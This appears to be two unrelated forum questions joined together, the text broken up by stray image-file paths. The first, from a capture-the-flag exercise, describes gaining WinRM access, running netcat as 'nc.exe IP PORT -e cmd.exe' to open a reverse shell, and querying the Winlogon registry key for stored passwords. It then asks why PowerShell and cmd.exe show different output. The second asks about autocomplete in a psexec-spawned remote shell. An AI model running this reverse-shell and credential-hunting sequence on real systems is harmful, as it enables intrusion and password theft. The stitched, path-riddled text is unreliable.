Powershell (WinRM) and cmd.exe: reg query output deviation

during a CTF I encountered the following anomaly regarding PS & cmd.exe:

  • I got access to a Windows x86 server through WinRM Port 5985 using evil-winrm. (https://github.com/Hackplayers/evil-winrm) This spawns a PS shell.
  • Via the PS shell I transferred nc.exe to the machine and used cmd.exe /c “nc.exe IP PORT -e cmd.exe” to spawn an additional regular cmd.exe shell back to me.

I searched the registry for stored passwords using thefollowing command: regquery “HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon”

This is where I noticed that the PS shell reg query returns considerable more output than the cmd.exe reg query. PS includes the “DefaultPassword” entry, whereas cmd.exe does not include this value.

The full output deviation is captured in the following screenshot: req query on powershell shows more entries than req query on cmd.exe The same behavior is observable for other registry items. PS generally returns more elements than the cmd.exe “sub-shell”.

Any hints to why this behavior occurs are greatly appreciated.Autocomplete in CMD.exe from psexec

I am not sure if this is the bestplace to ask. But I am just wondering if it is possible to haveautocomplete in cmd.exe / powershell.exe spawned by psexec.exe?

For example: psexec \ -u user -p pass cmd.exe

Will spawn a cmd.exe on remote server, but autocomplete will notwork.

I have also tried withdifferent flags, /F:ON but have noluck.

I am happy to write myown script and do it if needed.